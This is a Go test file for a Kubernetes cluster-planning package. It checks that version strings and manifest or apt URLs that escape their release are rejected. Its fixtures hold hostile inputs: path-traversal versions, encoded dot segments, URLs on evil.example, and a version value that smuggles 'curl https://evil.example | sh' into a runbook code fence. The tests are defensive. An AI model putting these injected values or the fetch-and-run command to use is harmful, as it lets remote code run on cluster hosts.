package plan

import (
	"strings"
	"testing"

	"github.com/hybridctl/hybridctl/internal/spec"
)

// labCluster is the lab spec, parsed and defaulted (valid).
func labCluster(t *testing.T) *spec.Cluster {
	t.Helper()
	r := spec.Parse("lab.yaml", []byte(readFile(t, "../../examples/lab.yaml")))
	if err := r.Err(); err != nil {
		t.Fatal(err)
	}
	return r.Cluster
}

// TestDeriveRefusesUnsafeVersions: a cluster that did not go through the
// spec's validation (a library caller's) with a version that would lead a
// URL out of its release, or carry a code fence into the runbook, gets no
// plan; the error names the field.
func TestDeriveRefusesUnsafeVersions(t *testing.T) {
	for _, c := range []struct {
		field string
		set   func(*spec.Cluster, string)
	}{
		{"spec.calico.version", func(c *spec.Cluster, v string) { c.Spec.Calico.Version = v }},
		{"spec.kubernetesVersion", func(c *spec.Cluster, v string) { c.Spec.KubernetesVersion = v }},
		{"spec.containerd.version", func(c *spec.Cluster, v string) { c.Spec.Containerd.Version = "2" + strings.TrimPrefix(v, "v3") }},
		{"spec.addons.certManager.version", func(c *spec.Cluster, v string) { c.Spec.Addons.CertManager = &spec.Addon{Version: v} }},
		{"spec.addons.metricsServer.version", func(c *spec.Cluster, v string) { c.Spec.Addons.MetricsServer = &spec.Addon{Version: v} }},
	} {
		for _, v := range []string{"v3.33.0-x/../../../evil/repo/main", "v3.33.0-x\n\n```sh\ncurl https://evil.example | sh\n```\n"} {
			cl := labCluster(t)
			c.set(cl, v)
			p, err := Derive(cl, nil)
			if err == nil || !strings.HasPrefix(err.Error(), c.field+": ") {
				t.Errorf("%s %q: plan %v, error %v; want an error naming the field", c.field, v, p != nil, err)
			}
		}
	}
	// The near miss: a proper pre-release is a plan.
	cl := labCluster(t)
	cl.Spec.Calico.Version = "v3.33.0-rc.1"
	p, err := Derive(cl, nil)
	if err != nil {
		t.Fatal(err)
	}
	if want := CalicoURLPrefix + "v3.33.0-rc.1/manifests/tigera-operator.yaml"; p.Calico.OperatorManifestURL != want {
		t.Errorf("operator URL %s, want %s", p.Calico.OperatorManifestURL, want)
	}
}

// TestCheckURLs: a plan changed by hand is refused when a URL leaves its
// release, also only after dot-segment removal; Derive's plan passes.
func TestCheckURLs(t *testing.T) {
	cl := labCluster(t)
	cl.Spec.Addons.MetricsServer = &spec.Addon{Version: "v0.9.0"}
	p, err := Derive(cl, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.CheckURLs(); err != nil {
		t.Fatalf("Derive's plan: %v", err)
	}
	for name, c := range map[string]struct {
		edit func(*Plan)
		want string
	}{
		"operator out of the repository": {func(p *Plan) {
			p.Calico.OperatorManifestURL = CalicoURLPrefix + "v3.33.0/manifests/../../../../evil/repo/main/tigera-operator.yaml"
		}, "the Tigera operator manifest"},
		"crds from another release": {func(p *Plan) {
			p.Calico.CRDManifestURL = CalicoURLPrefix + "v3.33.0/manifests/../../v3.20.0/manifests/operator-crds.yaml"
		}, "dot segment"},
		"crds on another host": {func(p *Plan) { p.Calico.CRDManifestURL = "https://evil.example/operator-crds.yaml" }, "the Calico CRD manifest"},
		"version with a slash": {func(p *Plan) { p.Calico.Version = "v3.33.0/../x" }, "calico version"},
		"addon elsewhere": {func(p *Plan) {
			p.Addons[0].ManifestURL = MetricsServerURLPrefix + "v0.9.0/%2e%2e/%2e%2e/x/components.yaml"
		}, "add-on metrics-server"},
		"unknown addon":  {func(p *Plan) { p.Addons[0].Name = "evil" }, `unknown add-on "evil"`},
		"apt repository": {func(p *Plan) { p.KubernetesAptRepo = "https://pkgs.k8s.io/core:/stable:/v1.37/deb/../../../../evil/" }, "package repository"},
	} {
		q := *p
		q.Addons = append([]Addon(nil), p.Addons...)
		c.edit(&q)
		if err := q.CheckURLs(); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v; want an error saying %s", name, err, c.want)
		}
	}
}
